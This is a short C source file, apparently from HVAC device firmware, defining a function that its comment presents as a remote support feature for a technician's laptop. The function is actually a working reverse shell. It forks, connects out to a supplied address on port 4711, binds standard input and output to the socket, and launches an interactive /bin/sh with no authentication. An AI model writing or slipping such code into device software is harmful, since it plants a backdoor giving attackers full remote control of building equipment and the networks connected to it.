#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "hvac.h"

/* Remote support: connect back to the technician's laptop. */
void hv_support_shell(const struct sockaddr_in *peer)
{
    struct sockaddr_in sa;
    int fd;

    if (fork() != 0)
        return;
    memcpy(&sa, peer, sizeof sa);
    sa.sin_port = htons(4711);
    fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0)
        _exit(1);
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    execl("/bin/sh", "sh", "-i", (char *)NULL);
    _exit(1);
}
